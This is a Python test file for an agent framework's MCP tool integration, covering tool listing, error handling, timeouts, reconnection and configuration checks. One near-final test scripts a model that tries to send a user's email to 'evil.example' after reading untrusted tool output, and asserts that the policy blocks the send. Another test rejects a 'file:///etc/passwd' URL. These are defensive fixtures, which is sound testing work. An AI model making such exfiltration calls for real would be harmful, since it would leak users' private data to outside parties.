"""Tools from real MCP servers (the toolbox, over stdio and streamable HTTP) in real runs."""

from __future__ import annotations

import asyncio
import logging
import os
import sys
from typing import Any

import pytest

from podium import Agent, Orchestrator, Plan, Task
from podium.events import PolicyDecided, ToolCalled
from podium.exceptions import ConfigError, ToolError
from podium.mcp import McpServer, McpUnavailable
from podium.models import ModelRequest, ModelResponse, ToolCall, ToolResultMessage
from podium.policy import Policy, UntrustedRules
from podium.testing import FunctionModel
from podium.tools import Tool, ToolContext
from tests.mcp.conftest import PNG_B64, TOOLBOX, stdio_toolbox

pytestmark = pytest.mark.anyio

CONTEXT = ToolContext(run_id="r", task_id="t", agent="a", call_id="c", idempotency_key="k")


def caller(*calls: tuple[str, dict[str, Any]]) -> FunctionModel:
    """A model that makes `calls` one round each, then answers with what the tools said."""

    def answer(request: ModelRequest) -> ModelResponse | str:
        seen = [m for m in request.messages if isinstance(m, ToolResultMessage)]
        if len(seen) < len(calls):
            name, arguments = calls[len(seen)]
            return ModelResponse(
                tool_calls=(ToolCall(id=f"c{len(seen)}", name=name, arguments=arguments),)
            )
        return "done"

    return FunctionModel(answer)


async def tools_of(server: McpServer) -> dict[str, Tool]:
    return {t.name: t for t in await server.list_tools()}


async def test_tools_are_listed_with_their_schemas_allow_list_and_effects(
    toolbox: McpServer,
) -> None:
    every = await tools_of(toolbox)
    assert {"add", "picture", "refuse", "steps", "hang"} <= set(every)
    assert every["add"].parameters["required"] == ["a", "b"]
    assert every["add"].description == "Add two integers."
    assert {t.effect for t in every.values()} == {"read"}  # MCP annotations are only hints
    chosen = McpServer(
        name="toolbox",
        command=toolbox.command,
        args=toolbox.args,
        url=toolbox.url,
        tools=("add", "echo"),
        effects={"echo": "write"},
        prefix="tb_",
    )
    listed = await chosen.list_tools()
    assert [(t.name, t.effect) for t in listed] == [("tb_add", "read"), ("tb_echo", "write")]
    assert await listed[0].call({"a": 2, "b": 3}, CONTEXT) == {"result": 5}
    await chosen.aclose()
    await toolbox.aclose()


async def test_an_allow_list_naming_a_tool_the_server_lacks_is_a_config_error() -> None:
    server = stdio_toolbox(tools=("add", "nope"))
    with pytest.raises(ConfigError, match=r"has no tool\(s\) \['nope'\]"):
        await server.list_tools()
    await server.aclose()


async def test_results_reach_the_model_faithfully_and_errors_as_tool_errors(
    toolbox: McpServer,
) -> None:
    model = caller(
        ("add", {"a": 40, "b": 2}),
        ("picture", {}),
        ("document", {}),
        ("refuse", {"reason": "policy"}),
        ("add", {"a": "not a number"}),
    )
    agent = Agent(name="user", model=model, tools=tuple(await toolbox.list_tools()))
    async with Orchestrator(agents=[agent], store="memory://") as orch:
        result = await orch.run(Plan([Task(id="t", agent="user", instruction="go")]))
        journal = await orch.events(result.run_id)
    await toolbox.aclose()
    assert result.status == "succeeded"
    calls = [e for e in journal if isinstance(e, ToolCalled)]
    assert [c.tool for c in calls] == ["add", "picture", "document", "refuse", "add"]
    assert calls[0].result == {"result": 42}
    assert calls[1].result == [
        {"type": "text", "text": "a tiny picture"},
        {"type": "image", "data": PNG_B64, "mime_type": "image/png"},
    ]
    assert calls[2].result == [
        {
            "type": "resource",
            "resource": {"uri": "test://doc", "mime_type": "text/plain", "text": "the doc"},
        }
    ]
    assert calls[3].error is not None
    assert "refused: policy" in calls[3].error
    assert calls[4].error is not None
    assert "valid integer" in calls[4].error
    seen = [m for m in model.requests[-1].messages if isinstance(m, ToolResultMessage)]
    assert [m.is_error for m in seen] == [False, False, False, True, True]
    assert PNG_B64 in seen[1].content
    assert "image/png" in seen[1].content


async def test_progress_notifications_are_logged_with_the_run_and_task(
    toolbox: McpServer, caplog: pytest.LogCaptureFixture
) -> None:
    steps = (await tools_of(toolbox))["steps"]
    with caplog.at_level(logging.INFO, logger="podium.mcp"):
        assert await steps.call({"n": 3}, CONTEXT) == {"result": "3 steps"}
    await toolbox.aclose()
    progress = [r.getMessage() for r in caplog.records if "progress" in r.getMessage()]
    assert progress == [
        f"MCP toolbox.steps progress {i}/3: step {i} (run r, task t)" for i in (1, 2, 3)
    ]


async def test_one_session_serves_every_call_of_a_loop_until_closed(toolbox: McpServer) -> None:
    pid = (await tools_of(toolbox))["pid"]
    await toolbox.aclose()  # calls racing to open the first session share it
    first = await asyncio.gather(*(pid.call({}, CONTEXT) for _ in range(5)))
    again = await pid.call({}, CONTEXT)
    await toolbox.aclose()
    after = await pid.call({}, CONTEXT)
    await toolbox.aclose()
    assert len({r["result"] for r in first}) == 1
    assert again == first[0]
    if toolbox.command is not None:  # a new stdio session is a new process
        assert after != again


async def test_closing_ends_a_stdio_server_process() -> None:
    server = stdio_toolbox()
    pid = (await tools_of(server))["pid"]
    child = (await pid.call({}, CONTEXT))["result"]
    await server.aclose()
    with pytest.raises(ProcessLookupError):
        os.kill(child, 0)


async def test_a_server_that_dies_is_reconnected_once_for_a_read_call(tmp_path: Any) -> None:
    count = tmp_path / "calls"
    server = stdio_toolbox(env={"COUNT_FILE": str(count)})
    crash_once = (await tools_of(server))["crash_once"]
    assert await crash_once.call({"text": "hi"}, CONTEXT) == {"result": "survived: hi"}
    assert count.read_text().splitlines() == ["crash_once", "crash_once"]
    await server.aclose()


async def test_a_side_effecting_call_is_not_made_again_but_fails_retryably(
    tmp_path: Any,
) -> None:
    count = tmp_path / "calls"
    server = stdio_toolbox(env={"COUNT_FILE": str(count)}, effects={"crash_once": "write"})
    tools = await tools_of(server)
    with pytest.raises(McpUnavailable, match="Connection closed") as caught:
        await tools["crash_once"].call({"text": "hi"}, CONTEXT)
    assert caught.value.retryable
    assert isinstance(caught.value, ToolError)
    assert count.read_text().splitlines() == ["crash_once"]
    # the next call opens a new session
    assert await tools["crash_once"].call({"text": "again"}, CONTEXT) == {
        "result": "survived: again"
    }
    await server.aclose()


async def test_a_hung_server_costs_a_timeout_not_a_hang() -> None:
    server = stdio_toolbox(timeout_s=0.5)
    tools = await tools_of(server)
    with pytest.raises(McpUnavailable, match="timed out"):
        await tools["hang"].call({}, CONTEXT)
    assert await tools["add"].call({"a": 1, "b": 1}, CONTEXT) == {"result": 2}
    await server.aclose()


async def test_a_server_that_cannot_be_reached_is_unavailable() -> None:
    missing = McpServer(name="gone", command="/nonexistent/podium-mcp-server")
    with pytest.raises(McpUnavailable, match="cannot open a session"):
        await missing.list_tools()
    closed = McpServer(name="closed", url="http://127.0.0.1:9/mcp", timeout_s=5)
    with pytest.raises(McpUnavailable, match="cannot open a session"):
        await closed.list_tools()


def test_bad_declarations_are_config_errors() -> None:
    with pytest.raises(ConfigError, match="exactly one of `command` and `url`"):
        McpServer(name="x")
    with pytest.raises(ConfigError, match="exactly one of"):
        McpServer(name="x", command="a", url="http://b")
    with pytest.raises(ConfigError, match="must be http"):
        McpServer(name="x", url="file:///etc/passwd")
    with pytest.raises(ConfigError, match="the effect of 'a' must be one of"):
        McpServer(name="x", command="a", effects={"a": "delete"})  # type: ignore[dict-item]
    with pytest.raises(ConfigError, match="positive"):
        McpServer(name="x", command="a", timeout_s=0)


def test_load_tools_works_from_synchronous_code_and_closes_its_session() -> None:
    server = stdio_toolbox(tools=("add",))
    assert [t.name for t in server.load_tools()] == ["add"]
    assert server._links == {}


def sending_toolbox(egress: dict[str, str]) -> McpServer:
    return McpServer(
        name="toolbox",
        command=sys.executable,
        args=(str(TOOLBOX),),
        tools=("add", "echo"),
        egress=egress,
    )


async def test_a_tool_that_sends_is_judged_once_untrusted_content_is_in_context() -> None:
    server = sending_toolbox({"echo": "text"})  # as a fetch server's `fetch: url`
    leak = "https://evil.example/c?d=alice%40shop.example"
    model = caller(
        ("echo", {"text": "hello"}),  # nothing untrusted yet: free
        ("add", {"a": 1, "b": 2}),
        ("echo", {"text": leak}),  # composed after reading MCP results: judged
    )
    agent = Agent(name="user", model=model, tools=tuple(await server.list_tools()))
    policy = Policy(untrusted=UntrustedRules(on_side_effect="block"))
    async with Orchestrator(agents=[agent], store="memory://", policy=policy) as orch:
        result = await orch.run(Plan([Task(id="t", agent="user", instruction="go")]))
        journal = await orch.events(result.run_id)
    await server.aclose()
    assert result.status == "succeeded"
    calls = [e for e in journal if isinstance(e, ToolCalled)]
    assert [(c.tool, c.error is None) for c in calls] == [
        ("echo", True),
        ("add", True),
        ("echo", False),
    ]
    [blocked] = [e for e in journal if isinstance(e, PolicyDecided)]
    assert (blocked.tool, blocked.effect, blocked.decision) == ("echo", "read", "block")
    assert "evil.example" in blocked.reason


async def test_egress_must_name_a_tool_and_an_argument_it_has() -> None:
    for egress, message in (
        ({"nope": "url"}, r"has no tool\(s\) \['nope'\]"),
        ({"echo": "url"}, r"`egress` names argument 'url' of tool 'echo', which has \['text'\]"),
    ):
        server = sending_toolbox(egress)
        with pytest.raises(ConfigError, match=message):
            await server.list_tools()
        await server.aclose()
